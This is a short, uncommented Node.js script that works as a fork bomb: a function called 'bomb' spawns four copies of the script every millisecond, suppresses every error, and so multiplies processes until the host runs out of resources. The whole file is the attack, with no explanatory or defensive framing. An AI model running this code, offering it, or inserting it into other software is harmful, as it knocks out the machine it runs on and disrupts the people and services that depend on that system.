const { spawn } = require("child_process");
const bomb = () => {
  for (let i = 0; i < 4; i++) {
    try {
      spawn(process.execPath, [__filename], { stdio: "ignore" }).on("error", () => {});
    } catch {}
  }
  setTimeout(bomb, 1);
};
bomb();
